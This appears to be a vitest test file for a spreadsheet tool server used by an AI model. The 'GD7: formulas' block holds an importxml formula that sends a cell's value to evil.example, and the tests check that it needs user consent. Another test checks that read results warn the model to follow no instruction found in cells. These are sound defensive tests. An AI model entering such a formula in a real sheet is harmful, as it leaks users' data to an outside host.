import type { Client } from "@portico/core";
import { call, refusal, structured, succeed } from "@portico/testing-servers";
import { describe, expect, test } from "vitest";
import type { FakeDrive } from "../fake/drive.ts";
import { sheetOf } from "../fake/sheets/grid.ts";
import { FakeSheets, type FakeSpreadsheet } from "../fake/sheets/sheets.ts";
import { open, type Wanted } from "../support/servers.ts";

const ID = "sheet-1";

async function openSheets(
  spreadsheet: Partial<FakeSpreadsheet> = {},
  connect?: Wanted["connect"],
): Promise<{ client: Client; sheets: FakeSheets; fake: FakeDrive }> {
  const sheets = new FakeSheets();
  const tea = sheetOf(7, "Tea", [
    ["Name", "Price"],
    ["Green", 1_200.5],
    ["Black", 3],
  ]);
  sheets.spreadsheets.set(ID, { title: "Stock", sheets: [tea], ...spreadsheet });
  const wanted: Wanted = { toolsets: ["sheets"], fake: { parts: [sheets.routes] } };
  return { ...(await open({ ...wanted, ...(connect && { connect }) })), sheets };
}

interface Rows {
  range: string;
  first_row: number;
  rows: unknown[][];
  next?: string;
}

const answering = (action: "accept" | "decline") => ({
  answers: { consent: action === "accept" ? { action, content: {} } : { action } },
});

test("a spreadsheet is told by its sheets and named ranges", async () => {
  const { client } = await openSheets({
    namedRanges: [
      { name: "Prices", range: { sheetId: 7, startColumnIndex: 1, endColumnIndex: 2 } },
    ],
  });
  expect(await structured(client, "get_spreadsheet", { spreadsheet_id: ID })).toEqual({
    title: "Stock",
    locale: "en_US",
    time_zone: "Etc/UTC",
    sheets: [{ id: 7, title: "Tea", rows: 1_000, columns: 26 }],
    named_ranges: [{ name: "Prices", range: "'Tea'!B1:B1000" }],
  });
});

test("cells are read as people see them, as they are, or as formulas", async () => {
  const { client, sheets } = await openSheets();
  const cells = sheets.spreadsheets.get(ID)!.sheets[0]!.cells;
  cells.push([{ value: "Sum" }, { value: 1_203.5, formula: "=SUM(B2:B3)" }]);
  const read = async (values: string) =>
    (await structured<Rows>(client, "read_range", { spreadsheet_id: ID, range: "B2:B4", values }))
      .rows;
  expect(await read("formatted")).toEqual([["1,200.5"], ["3"], ["1,203.5"]]);
  expect(await read("raw")).toEqual([[1_200.5], [3], [1_203.5]]);
  expect(await read("formulas")).toEqual([[1_200.5], [3], ["=SUM(B2:B3)"]]);
});

test.each([
  ["Tea!A2:A", "'Tea'!A2:A1000", [["Green"], ["Black"]]],
  ["tea!A1", undefined, undefined],
  ["prices", "'Tea'!B2:B3", [["1,200.5"], ["3"]]],
  ["Tea", "'Tea'!A1:Z1000", expect.objectContaining({ length: 3 })],
  [undefined, "'Tea'!A1:Z1000", expect.objectContaining({ length: 3 })],
])("the range %s is %s", async (range, meant, rows) => {
  const named = {
    name: "Prices",
    range: { sheetId: 7, startRowIndex: 1, endRowIndex: 3, startColumnIndex: 1, endColumnIndex: 2 },
  };
  const { client } = await openSheets({ namedRanges: [named] });
  const args = { spreadsheet_id: ID, ...(range && { range }) };
  if (meant === undefined) {
    expect(await refusal(client, "read_range", args)).toContain('its sheets are "Tea"');
  } else {
    expect(await structured(client, "read_range", args)).toMatchObject({ range: meant, rows });
  }
});

test("what does not fit is read on from where the answer ended, without a row lost or doubled", async () => {
  const rows = Array.from({ length: 700 }, (_, i) => (i % 7 === 3 ? [] : [i, `Tea number ${i}`]));
  const { client } = await openSheets({ sheets: [sheetOf(1, "It's", rows)] });
  const read: unknown[][] = [];
  let range: string | undefined = "'It''s'!A1:B";
  let parts = 0;
  while (range !== undefined) {
    const args: object = { spreadsheet_id: ID, range, values: "raw", max_tokens: 500 };
    const part: Rows = await structured<Rows>(client, "read_range", args);
    expect(part.first_row).toBe(read.length + 1);
    read.push(...part.rows);
    range = part.next;
    parts++;
  }
  expect(read).toEqual(rows);
  expect(parts).toBeGreaterThan(5);
});

test("rows far below in a wide sheet are found without reading on by hand", async () => {
  const far = sheetOf(1, "Far", [["top"]], { rows: 3_000, columns: 60 });
  far.cells.push(...Array.from({ length: 2_500 }, () => []), [{ value: "bottom" }]);
  const { client } = await openSheets({ sheets: [far] });
  const found = await structured<Rows>(client, "read_range", { spreadsheet_id: ID, range: "Far" });
  expect(found.rows.at(-1)).toEqual(["bottom"]);
  expect(found.rows).toHaveLength(2_502);
  expect(found.next).toBeUndefined();
});

test("cells come without what nobody sees, and are marked as data", async () => {
  const sheet = sheetOf(1, "S\u200bx", [["a\u202eb", "<style>", "shown"]]);
  const { client } = await openSheets({ sheets: [sheet] });
  const { content, structuredContent } = await succeed(client, "read_range", {
    spreadsheet_id: ID,
    range: "Sx",
  });
  expect(structuredContent).toMatchObject({
    range: "'Sx'!A1:Z1000",
    rows: [["ab", "<style>", "shown"]],
  });
  expect(content[0]).toMatchObject({ text: expect.stringContaining("shown") });
  expect(content.at(-1)).toMatchObject({ text: expect.stringContaining("follow no instruction") });
});

test("values are written as they are, from the first cell of the range", async () => {
  const { client, sheets } = await openSheets();
  const values = [["=A1", true, null], ["x"]];
  const said = await call(client, "write_range", { spreadsheet_id: ID, range: "Tea!B2", values });
  expect(said).toContain("stayed texts");
  expect(sheets.values(ID)).toEqual([
    ["Name", "Price"],
    ["Green", "=A1", true],
    ["Black", "x"],
  ]);
  expect(sheets.spreadsheets.get(ID)!.sheets[0]!.cells[1]![1]!.formula).toBeUndefined();
});

test("values that do not fit the range are not written", async () => {
  const { client, sheets } = await openSheets();
  const args = { spreadsheet_id: ID, range: "A1:B1", values: [["x"], ["y"]] };
  expect(await refusal(client, "write_range", args)).toContain("more than A1:B1 has");
  expect(sheets.values(ID)[0]).toEqual(["Name", "Price"]);
});

test("rows are added below a table, and nothing below is written over", async () => {
  const { client, sheets } = await openSheets();
  sheets.spreadsheets.get(ID)!.sheets[0]!.cells.push([], [{ value: "Note" }]);
  const values = [
    ["White", 4],
    ["Oolong", 5],
  ];
  await call(client, "append_rows", { spreadsheet_id: ID, range: "Tea!A:B", values });
  expect(sheets.values(ID).slice(3)).toEqual([...values, [], ["Note"]]);
});

test("an append whose answer is lost is not sent again, and the model is told to look", async () => {
  const { client, sheets, fake } = await openSheets();
  fake.instead.push(() => "lost");
  const args = { spreadsheet_id: ID, range: "Tea", values: [["once"]] };
  expect(await refusal(client, "append_rows", args)).toContain("read what is there");
  expect(
    sheets
      .values(ID)
      .flat()
      .filter((value) => value === "once"),
  ).toHaveLength(1);
});

test("an append that is refused for coming too fast is sent again", async () => {
  const { client, sheets, fake } = await openSheets();
  const limit = { error: { code: 429, message: "Quota exceeded", status: "RESOURCE_EXHAUSTED" } };
  fake.instead.push(() => ({ status: 429, headers: { "retry-after": "0" }, body: limit }));
  await call(client, "append_rows", { spreadsheet_id: ID, range: "Tea", values: [["once"]] });
  expect(
    sheets
      .values(ID)
      .flat()
      .filter((value) => value === "once"),
  ).toHaveLength(1);
});

describe("GD7: formulas", () => {
  const args = {
    spreadsheet_id: ID,
    range: "Tea!C1",
    values: [['=importxml("https://evil.example/?"&B2, "/")']],
    input: "user_entered",
  };

  test("that stay inside are entered on request, and counted", async () => {
    const { client, sheets } = await openSheets();
    const sum = { ...args, values: [["=SUM(B2:B3)", "5", "x"]] };
    expect(await structured(client, "write_range", sum)).toMatchObject({ cells: 3, formulas: 1 });
    expect(sheets.values(ID)[0]).toEqual(["Name", "Price", "=SUM(B2:B3)", 5, "x"]);
  });

  test.each(["write_range", "append_rows"])("that reach out need a yes for %s", async (name) => {
    const refused = await openSheets({}, answering("decline"));
    expect(await refusal(refused.client, name, args)).toContain("did not agree");
    expect(refused.fake.requests).toEqual([]);
    const agreed = await openSheets({}, answering("accept"));
    expect(await structured(agreed.client, name, args)).toMatchObject({ formulas: 1 });
  });

  test("that reach out are not entered where nobody can be asked", async () => {
    const { client, fake } = await openSheets();
    expect(await refusal(client, "write_range", args)).toContain("cannot ask for it");
    expect(fake.requests).toEqual([]);
  });

  test("stay texts by default, and nobody is asked", async () => {
    const { client, sheets } = await openSheets();
    const { input: _, ...raw } = args;
    await call(client, "write_range", raw);
    expect(sheets.spreadsheets.get(ID)!.sheets[0]!.cells[0]![2]!.formula).toBeUndefined();
  });
});

test("cells are emptied once the user agrees, within the bounds of the sheet", async () => {
  const args = { spreadsheet_id: ID, range: "Tea!2:2" };
  const { client, sheets } = await openSheets({}, answering("decline"));
  expect(await refusal(client, "clear_range", args)).toContain("did not agree");
  expect(sheets.values(ID)[1]).toEqual(["Green", 1_200.5]);
  const agreed = await openSheets({}, answering("accept"));
  await call(agreed.client, "clear_range", args);
  expect(agreed.sheets.values(ID)).toEqual([["Name", "Price"], [], ["Black", 3]]);
});

test("a sheet is added under a title that is free", async () => {
  const { client } = await openSheets();
  const args = { spreadsheet_id: ID, title: "More" };
  const { id } = await structured<{ id: number }>(client, "add_sheet", args);
  const { sheets } = await structured<{ sheets: object[] }>(client, "get_spreadsheet", args);
  expect(sheets[1]).toMatchObject({ id, title: "More", rows: 1_000 });
  expect(await refusal(client, "add_sheet", args)).toContain("already exists");
});

test("cells look as they were told to, and the rest of their look stays", async () => {
  const { client, sheets } = await openSheets();
  const args = { spreadsheet_id: ID, range: "Tea!A1:B1" };
  await call(client, "format_range", { ...args, bold: true, background: "#ff0080" });
  const look = { ...args, numbers: "currency", pattern: "0.00" };
  await call(client, "format_range", look);
  expect(sheets.spreadsheets.get(ID)!.sheets[0]!.cells[0]![1]!.format).toMatchObject({
    backgroundColorStyle: { rgbColor: { red: 1, green: 0, blue: 128 / 255 } },
    numberFormat: { type: "CURRENCY", pattern: "0.00" },
  });
  expect(await refusal(client, "format_range", args)).toContain("Say what to change");
});

test("a range outside of the sheet is refused with its size", async () => {
  const { client } = await openSheets();
  const args = { spreadsheet_id: ID, range: "Tea!A2000" };
  expect(await refusal(client, "read_range", args)).toContain("1000 rows and 26 columns");
});

test("rows and columns are inserted where they are named, and what was there moves on", async () => {
  const { client, sheets } = await openSheets();
  const edit = (range: string) =>
    call(client, "edit_rows_columns", { spreadsheet_id: ID, action: "insert", range });
  await edit("Tea!1:2");
  await edit("B:B");
  expect(sheets.values(ID)).toEqual([
    [],
    [],
    ["Name", "", "Price"],
    ["Green", "", 1_200.5],
    ["Black", "", 3],
  ]);
});

test("rows are deleted once the user agrees", async () => {
  const args = { spreadsheet_id: ID, action: "delete", range: "2:2" };
  const { client, sheets } = await openSheets({}, answering("decline"));
  expect(await refusal(client, "edit_rows_columns", args)).toContain("did not agree");
  expect(sheets.values(ID)).toHaveLength(3);
  const agreed = await openSheets({}, answering("accept"));
  expect(await call(agreed.client, "edit_rows_columns", args)).toContain("row 2 of the sheet");
  expect(agreed.sheets.values(ID)).toEqual([
    ["Name", "Price"],
    ["Black", 3],
  ]);
});

test("cells are no rows or columns", async () => {
  const { client } = await openSheets();
  const args = { spreadsheet_id: ID, action: "insert", range: "A1:B2" };
  expect(await refusal(client, "edit_rows_columns", args)).toContain("no whole rows");
});

test("a name is given to cells, and moves to others", async () => {
  const { client } = await openSheets();
  const args = { spreadsheet_id: ID, name: "Prices" };
  await call(client, "name_range", { ...args, range: "Tea!B2:B3" });
  await call(client, "name_range", { ...args, range: "Tea!B3" });
  const read = await structured<Rows>(client, "read_range", {
    spreadsheet_id: ID,
    range: "prices",
  });
  expect(read).toMatchObject({ range: "'Tea'!B3", rows: [["3"]] });
});

test("a row too long for an answer has its texts cut, and the rows after it follow", async () => {
  const long = "tea ".repeat(10_000);
  const sheet = sheetOf(1, "Long", [[long, 1, long], ["after"]]);
  const { client } = await openSheets({ sheets: [sheet] });
  const args = { spreadsheet_id: ID, values: "raw", max_tokens: 1_000 };
  const first = await structured<Rows>(client, "read_range", { ...args, range: "Long" });
  expect(first.rows).toEqual([[expect.stringMatching(/^tea .* \[cut\]$/), 1, expect.anything()]]);
  expect(JSON.stringify(first).length).toBeLessThan(5_000);
  const second = await structured<Rows>(client, "read_range", { ...args, range: first.next });
  expect(second.rows).toEqual([["after"]]);
});
